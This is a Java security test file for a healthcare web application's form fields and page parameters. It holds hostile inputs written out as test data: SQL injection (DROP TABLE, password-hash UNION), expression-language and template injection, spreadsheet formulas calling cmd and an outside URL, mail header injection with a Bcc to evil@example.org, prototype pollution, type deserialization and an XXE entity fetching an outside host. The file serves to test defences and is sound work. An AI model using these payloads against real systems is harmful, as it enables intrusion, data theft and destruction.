package org.candor.hostile;

import static org.candor.hostile.Attack.Must.BE_REFUSED_WITH_A_ROW;
import static org.candor.hostile.Attack.Must.BE_TURNED_AWAY;
import static org.candor.hostile.Attack.Must.DO_NOTHING;

import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.candor.config.demo.DemoPerson;
import org.candor.hostile.Attack.Hit;
import org.candor.hostile.Stage.Paths;
import org.candor.support.Form;
import org.candor.support.Person;

/** IN01 to IN13: what can be typed, and what can be written into the addresses of pages. */
final class FieldAttacks {
    private static final String VITALS = "/patient/intake-section.xhtml?section=vitals";

    /** Who opens which page with which parameters. */
    private static final Map<String, DemoPerson> ADDRESSES = new LinkedHashMap<>(Map.ofEntries(
            Map.entry("/staff/worklist.xhtml?part=X&item=X&after=X", DemoPerson.NURSE),
            Map.entry("/coordinator/calendar.xhtml?week=X&visit=X", DemoPerson.COORDINATOR),
            Map.entry("/admin/running.xhtml?workflow=X&edition=X", DemoPerson.WORKFLOW_ADMIN),
            Map.entry("/admin/edit-workflow.xhtml?workflow=X", DemoPerson.WORKFLOW_ADMIN),
            Map.entry("/admin/edit-table.xhtml?table=X&row=X", DemoPerson.WORKFLOW_ADMIN),
            Map.entry("/admin/approve-workflow.xhtml?proposal=X", DemoPerson.SECOND_WORKFLOW_ADMIN),
            Map.entry("/admin/people.xhtml?person=X", DemoPerson.PRACTICE_ADMIN),
            Map.entry("/patient/my-visits.xhtml?booked=X&cancelled=X&cancelling=X", DemoPerson.PATIENT),
            Map.entry("/patient/intake-section.xhtml?section=X&add=X", DemoPerson.SECOND_PATIENT),
            Map.entry("/patient/sign-consent.xhtml?request=X&renew=X&read=X", DemoPerson.PATIENT),
            Map.entry("/public/reset-password.xhtml?link=X", DemoPerson.PATIENT),
            Map.entry("/nurse/visits.xhtml?started=X", DemoPerson.INFUSION_NURSE)));

    private final Stage stage;
    private final List<Attack> attacks = new ArrayList<>();

    FieldAttacks(Stage stage) {
        this.stage = stage;
    }

    List<Attack> all() {
        inAddresses(
                "IN01",
                List.of(
                        "' OR 1=1--",
                        "'; DROP TABLE consent; --",
                        "%' UNION SELECT password_hash FROM account--",
                        "1 or pg_sleep(9)",
                        "x' || (select h2version()) || '",
                        "name desc; update account set state='DISABLED'"));
        inAddresses(
                "IN03",
                List.of(
                        "q#{7*7}q",
                        "q${7*7}q",
                        "q%{7*7}q",
                        "q#{''.getClass().forName('java.lang.Runtime')}q#{7*7}q",
                        "q{{7*7}}q",
                        "q#{facesContext.externalContext.redirect('"
                                + stage.outside().url() + "')}q"));
        formulas();
        letters();
        weights();
        units();
        mailHeaders();
        json();
        return attacks;
    }

    private void inAddresses(String entry, List<String> values) {
        for (var value : values) {
            ADDRESSES.forEach((address, who) -> attacks.add(new Attack(
                    entry,
                    value + " in " + address,
                    DO_NOTHING,
                    () -> stage.gets(who, address.replace("X", encoded(value))))));
        }
    }

    private static String encoded(String value) {
        return Person.encoded(Map.of("v", List.of(value))).substring(2);
    }

    /** Nothing is exported for a spreadsheet; the list of the trail shows what was searched for. */
    private void formulas() {
        for (var formula : List.of(
                "=cmd|' /C calc'!A0",
                "+cmd|' /C calc'!A0",
                "-2+3+cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "=HYPERLINK(\"" + stage.outside().url() + "\")",
                "=WEBSERVICE(\"" + stage.outside().url() + "\")")) {
            attacks.add(new Attack("IN05", formula, DO_NOTHING, () -> {
                var page = "/staff/audit-trail.xhtml";
                var form = Form.in(stage.as(DemoPerson.PRIVACY_OFFICER).open(page), "filter")
                        .with("action", formula);
                return stage.posts(DemoPerson.PRIVACY_OFFICER, page, form.pressed("showRows"));
            }));
        }
    }

    private void letters() {
        for (var name : Map.of(
                        "nothing in between", "Ma\u0000ya",
                        "turned around", "Maya\u202Egpj.exe",
                        "turned and closed", "\u2067Maya\u2069\u2066x",
                        "half a character", "Maya\uD83D",
                        "64 kB", "x".repeat(65_536),
                        "a thousand accents", "a" + "\u0301".repeat(1_000))
                .entrySet()) {
            attacks.add(new Attack(
                    "IN06",
                    name.getKey(),
                    BE_REFUSED_WITH_A_ROW,
                    () -> stage.posts(
                            DemoPerson.PATIENT,
                            Paths.ACCOUNT,
                            stage.contact().with("familyName", name.getValue()).pressed("save"))));
        }
    }

    private void weights() {
        for (var weight : List.of("-1", "0", "1e9", "NaN", "1.234,5", "Infinity", "0x50", "\uFF18\uFF10e1")) {
            attacks.add(new Attack("IN08", weight, BE_REFUSED_WITH_A_ROW, () -> {
                var form = Form.in(stage.as(DemoPerson.SECOND_PATIENT).open(VITALS), "answers")
                        .with("weight", weight)
                        .with("weightUnit", "kg");
                return stage.posts(DemoPerson.SECOND_PATIENT, VITALS, form.changed("weight"));
            }));
        }
    }

    private void units() {
        for (var unit : List.of("stone", "KG", "kg|lb", "lbs", "g", "#{7*7}")) {
            attacks.add(new Attack("IN10", unit, BE_REFUSED_WITH_A_ROW, () -> {
                var form = Form.in(stage.as(DemoPerson.SECOND_PATIENT).open(VITALS), "answers")
                        .with("weight", "80")
                        .with("weightUnit", unit);
                return stage.posts(DemoPerson.SECOND_PATIENT, VITALS, form.changed("weight"));
            }));
        }
    }

    private void mailHeaders() {
        for (var address : List.of(
                "a@b@example.org",
                "a@example.org\r\nBcc: evil@example.org",
                "a@example.org%0aBcc:evil@example.org",
                "a@example.org,evil@example.org",
                "Maya <a@example.org>",
                "a@[" + stage.outside().address() + "]",
                "a@example.org\u0000")) {
            attacks.add(new Attack("IN11", address, BE_REFUSED_WITH_A_ROW, () -> {
                var somebody = new Person();
                var form = Form.in(somebody.open(Paths.FORGOT), "forgot").with("email", address);
                return Hit.of(somebody.post(form.action(), form.pressed("send")));
            }));
        }
    }

    private void json() {
        for (var body : Map.of(
                        "a key twice", "{\"role\":\"PATIENT\",\"role\":\"PRACTICE_ADMIN\"}",
                        "ten thousand deep", "[".repeat(10_000) + "]".repeat(10_000),
                        "a prototype", "{\"__proto__\":{\"admin\":true},\"constructor\":{}}",
                        "a type",
                                "{\"@class\":\"java.net.URL\",\"val\":\""
                                        + stage.outside().url() + "\"}",
                        "a number of a megabyte", "{\"n\":" + "9".repeat(1_000_000) + "}",
                        "an entity",
                                "<!DOCTYPE x [<!ENTITY e SYSTEM \""
                                        + stage.outside().url() + "\">]><x>&e;</x>")
                .entrySet()) {
            attacks.add(new Attack(
                    "IN13",
                    body.getKey(),
                    BE_TURNED_AWAY,
                    () -> stage.says(
                            stage.as(DemoPerson.PATIENT),
                            "POST",
                            Paths.ACCOUNT,
                            Map.of(
                                    "Content-Type",
                                    body.getValue().startsWith("<") ? "application/xml" : "application/json"),
                            body.getValue())));
        }
    }
}
